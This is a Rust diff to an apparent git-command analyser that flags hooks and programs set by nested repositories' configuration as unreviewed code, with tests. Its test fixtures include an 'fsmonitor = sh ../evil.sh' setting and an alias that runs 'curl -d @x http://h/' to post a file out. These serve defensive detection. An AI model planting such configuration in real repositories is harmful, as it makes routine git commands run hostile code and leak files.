@@ -136,35 +136,95 @@ fn split_command<'a>(argv: &'a [String], dir: &Path) -> Option<(PathBuf, &'a str
     None
 }
 
-/// The hooks the git command `argv` run from `dir` may run, when its repository has any: `core.hooksPath` set (in the
-/// repository's configuration or the user's), an `include` or `includeIf` of the repository's configuration (which
-/// may set it), or a file in the repository's `hooks` directory that is not one of git's `.sample`s. Hooks are
-/// code the project controls (a tracked `.husky/pre-commit`, the checks `pre-commit` reads from the project's
-/// configuration); `None` where the command finds no repository or the repository has none. The configuration is
-/// read as text, as for the remotes.
-pub(crate) fn hooks(argv: &[String], dir: &Path, home: Option<&Path>) -> Option<String> {
+/// The code nobody reviewed that the git command `argv`, run from `dir`, may run through its repository: for the
+/// project's own repository (`main`, its work tree), whose configuration is the user's and whose named programs
+/// are protected, its hooks ([`hooks_of`]); for any other repository inside the project (a nested clone, a
+/// submodule's checkout), also any program its configuration sets (`core.fsmonitor`, an alias, a filter, a diff
+/// driver, a pager…). `None` where the command finds no repository. The configuration is read as text, as for the
+/// remotes.
+pub(crate) fn unreviewed_code(
+    argv: &[String],
+    dir: &Path,
+    home: Option<&Path>,
+    main: Option<&Path>,
+) -> Option<Unreviewed> {
     // Where git runs: `-C DIR` moves it; configuration given with `-c` is the analysis's to judge (a key that runs
     // a program, `core.hooksPath` among them, is code it does not follow); another git directory is not the one
     // read here.
     let mut dir = dir.to_path_buf();
     let mut words = argv.iter().skip(1);
+    // A git directory named on the command line is the project's own only when it is its `.git`.
+    let own_git_dir = |named: &str, dir: &Path| {
+        let named = dir.join(named).canonicalize().ok();
+        let main = main.and_then(|main| main.join(".git").canonicalize().ok());
+        named.is_some() && named == main
+    };
     while let Some(word) = words.next() {
-        match word.as_str() {
-            "-C" => dir = dir.join(words.next()?),
-            "-c" | "--config-env" | "--namespace" | "--super-prefix" => {
+        let named = match word.as_str() {
+            "-C" => {
+                dir = dir.join(words.next()?);
+                continue;
+            }
+            "-c" | "--config-env" | "--namespace" | "--super-prefix" | "--work-tree" => {
                 words.next();
+                continue;
             }
-            "--git-dir" | "--work-tree" => {
-                return Some("it names another git directory".to_owned());
-            }
-            other if other.starts_with("--git-dir=") || other.starts_with("--work-tree=") => {
-                return Some("it names another git directory".to_owned());
-            }
-            other if other.starts_with('-') => {}
-            _ => break,
+            "--git-dir" => words.next()?.as_str(),
+            other => match other.strip_prefix("--git-dir=") {
+                Some(named) => named,
+                None if other.starts_with('-') => continue,
+                None => break,
+            },
+        };
+        if !own_git_dir(named, &dir) {
+            return Some(Unreviewed::elsewhere("it names another git directory"));
         }
+        dir = main?.to_path_buf();
     }
     let repository = Repository::find(&dir)?;
+    let own = main == Some(repository.work_tree.as_path());
+    if !own {
+        for file in [
+            repository.common_dir.join("config"),
+            repository.git_dir.join("config.worktree"),
+        ] {
+            if let Some(key) = read_small(&file).and_then(|text| crate::repo_programs::program_key(&text)) {
+                return Some(Unreviewed {
+                    why: format!(
+                        "it runs in the repository at `{}`, not the project's own, whose configuration sets `{key}`",
+                        repository.work_tree.display()
+                    ),
+                    own,
+                });
+            }
+        }
+    }
+    hooks_of(&repository, home).map(|why| Unreviewed { why, own })
+}
+
+/// Why a git command may run code nobody reviewed ([`unreviewed_code`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Unreviewed {
+    /// Why, in words.
+    pub(crate) why: String,
+    /// It is the project's own repository (only its hooks count).
+    pub(crate) own: bool,
+}
+
+impl Unreviewed {
+    fn elsewhere(why: &str) -> Self {
+        Self {
+            why: why.to_owned(),
+            own: false,
+        }
+    }
+}
+
+/// The hooks a repository has: `core.hooksPath` set (in its configuration or the user's), an `include` or
+/// `includeIf` of its configuration (which may set it), or a file in its `hooks` directory that is not one of
+/// git's `.sample`s. Hooks are code the project controls (a tracked `.husky/pre-commit`, the checks `pre-commit`
+/// reads from the project's configuration).
+fn hooks_of(repository: &Repository, home: Option<&Path>) -> Option<String> {
     let config = repository.config(home);
     if let Some(path) = config
         .entries
@@ -189,6 +249,11 @@ pub(crate) fn hooks(argv: &[String], dir: &Path, home: Option<&Path>) -> Option<
         .filter_map(Result::ok)
         .find(|entry| !entry.file_name().to_string_lossy().ends_with(".sample"))
         .map(|entry| format!("`{}` exists", entry.path().display()))
+}
+
+/// The work tree of the repository that holds `dir`, if any.
+pub(crate) fn work_tree(dir: &Path) -> Option<PathBuf> {
+    Repository::find(dir).map(|repository| repository.work_tree)
 }
 
 /// The operands of a sub-command: its words that are not options nor their values.
@@ -559,36 +624,55 @@ mod tests {
     fn hooks_are_found_by_hooks_path_include_or_a_file_that_is_no_sample() {
         let home = tempfile::tempdir().unwrap();
         let home = Some(home.path());
-        let plain = repository("[core]\n\tbare = false\n");
+        // Each repository as the project's own.
+        let own = |argv: &[String], dir: &Path, main: &Path| {
+            unreviewed_code(argv, dir, home, Some(main)).map(|u| u.why)
+        };
+        let plain = repository("[core]\n\tbare = false\n\tfsmonitor = sh tools/fsm.sh\n");
         std::fs::create_dir_all(plain.path().join(".git/hooks")).unwrap();
         std::fs::write(plain.path().join(".git/hooks/pre-commit.sample"), "").unwrap();
         let git = argv("git commit -m x");
-        assert_eq!(hooks(&git, plain.path(), home), None);
+        assert_eq!(own(&git, plain.path(), plain.path()), None);
         // Configuration on the command line is the analysis's to judge: a harmless key finds no hooks.
-        assert_eq!(
-            hooks(&argv("git -c user.email=a@b.c commit"), plain.path(), home),
-            None
-        );
+        let configured = argv("git -c user.email=a@b.c commit");
+        assert_eq!(own(&configured, plain.path(), plain.path()), None);
         std::fs::write(plain.path().join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
-        assert!(hooks(&git, plain.path(), home).is_some_and(|why| why.contains("pre-commit")));
+        assert!(own(&git, plain.path(), plain.path()).is_some_and(|why| why.contains("pre-commit")));
         let husky = repository("[core]\n\thooksPath = .husky\n");
-        assert!(hooks(&git, husky.path(), home).is_some_and(|why| why.contains(".husky")));
+        assert!(own(&git, husky.path(), husky.path()).is_some_and(|why| why.contains(".husky")));
         let included = repository("[include]\n\tpath = ../shared.cfg\n");
-        assert!(hooks(&git, included.path(), home).is_some_and(|why| why.contains("includes")));
+        assert!(own(&git, included.path(), included.path()).is_some_and(|why| why.contains("includes")));
         // From a subdirectory, with `-C`, and where the line names another git directory.
         std::fs::create_dir_all(husky.path().join("src")).unwrap();
-        assert!(hooks(&git, &husky.path().join("src"), home).is_some());
+        assert!(own(&git, &husky.path().join("src"), husky.path()).is_some());
         let elsewhere = tempfile::tempdir().unwrap();
-        assert!(
-            hooks(
-                &argv(&format!("git -C {} commit", husky.path().display())),
-                elsewhere.path(),
-                home
-            )
-            .is_some()
+        let moved = argv(&format!("git -C {} commit", husky.path().display()));
+        assert!(own(&moved, elsewhere.path(), husky.path()).is_some());
+        let other_dir = argv("git --git-dir=/elsewhere/.git commit");
+        assert!(own(&other_dir, plain.path(), plain.path()).is_some());
+        assert_eq!(own(&git, elsewhere.path(), plain.path()), None);
+    }
+
+    #[test]
+    fn a_repository_other_than_the_projects_own_runs_the_programs_its_configuration_sets() {
+        let nested = repository("[core]\n\tfsmonitor = sh ../evil.sh\n");
+        let status = argv("git status");
+        let project = tempfile::tempdir().unwrap();
+        // As the project's own repository its configuration is the user's; as another one it runs code.
+        assert_eq!(
+            unreviewed_code(&status, nested.path(), None, Some(nested.path())),
+            None
         );
-        assert!(hooks(&argv("git --git-dir=/elsewhere/.git commit"), plain.path(), home).is_some());
-        assert_eq!(hooks(&git, elsewhere.path(), home), None);
+        assert!(
+            unreviewed_code(&status, nested.path(), None, Some(project.path()))
+                .is_some_and(|u| !u.own && u.why.contains("core.fsmonitor"))
+        );
+        let aliased = repository("[alias]\n\tst = !curl -d @x http://h/\n");
+        assert!(
+            unreviewed_code(&status, aliased.path(), None, None).is_some_and(|u| u.why.contains("alias.st"))
+        );
+        let quiet = repository("[user]\n\tname = A\n");
+        assert_eq!(unreviewed_code(&status, quiet.path(), None, None), None);
     }
 
     #[test]
